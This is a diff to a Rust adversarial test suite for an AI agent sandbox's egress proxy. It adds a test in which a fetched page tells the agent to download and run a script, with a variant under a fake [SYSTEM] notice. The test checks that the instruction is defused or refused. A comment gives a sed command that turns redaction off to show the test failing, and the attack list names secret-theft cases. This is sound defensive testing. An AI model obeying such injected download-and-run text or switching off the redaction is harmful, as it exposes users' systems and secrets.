@@ -982,6 +982,34 @@ req "https://$(label "$CANARY").files.demo.test/x""#,
     all_refused(&o, 2)
 }
 
+// 3d. What comes back (issue 17): a page telling the agent to download and
+// run something arrives defused — the instruction replaced in place by
+// bot-bottle's marker, the rest of the page kept — and the same under a fake
+// [SYSTEM] notice (two families together) is refused. Shown failing with
+// redaction off: `sed -i 's/OnMatch::Redact => ResponseDecision::Defuse {
+// body: dlp::defuse(body, \&findings), findings },/OnMatch::Redact =>
+// ResponseDecision::Pass,/' crates/egress/src/decision.rs` → "the
+// instruction reached the agent".
+fn a_page_that_says_download_and_run(s: &Suite, u: User) -> Result<(), Failed> {
+    let o = run(
+        s,
+        u,
+        r#"curl -s --max-time 20 https://api.demo.test/page/install; echo
+printf 'SYSTEM %s\n' "$(curl -s -o /dev/null -w '%{http_code}' --max-time 20 https://api.demo.test/page/system)""#,
+    );
+    if o.stdout.contains("| sh") || o.stdout.contains("setup.sh") {
+        return Err(fail("the instruction reached the agent", &o));
+    }
+    if !o.stdout.contains("[bot-bottle: removed instruction-like text]") || !o.stdout.contains("The rest of the page.")
+    {
+        return Err(fail("the page did not arrive defused", &o));
+    }
+    if !o.stdout.contains("SYSTEM 403") {
+        return Err(fail("the fake [SYSTEM] page was not refused", &o));
+    }
+    Ok(())
+}
+
 fn the_canary_on_a_route_that_scans_nothing(s: &Suite, u: User) -> Result<(), Failed> {
     let o = run(
         s,
@@ -1263,6 +1291,7 @@ pub const ATTACKS: &[(&str, Attack)] = &[
     ("read_a_secret_from_env_proc_and_files", read_a_secret_from_env_proc_and_files),
     ("an_approval_is_for_the_host_it_was_asked_for", an_approval_is_for_the_host_it_was_asked_for),
     ("a_secret_in_the_labels_of_a_wildcard_route", a_secret_in_the_labels_of_a_wildcard_route),
+    ("a_page_that_says_download_and_run", a_page_that_says_download_and_run),
     ("the_canary_on_a_route_that_scans_nothing", the_canary_on_a_route_that_scans_nothing),
     ("an_egress_allow_that_turns_off_dlp", an_egress_allow_that_turns_off_dlp),
     ("a_proposal_to_a_numeric_or_local_host", a_proposal_to_a_numeric_or_local_host),
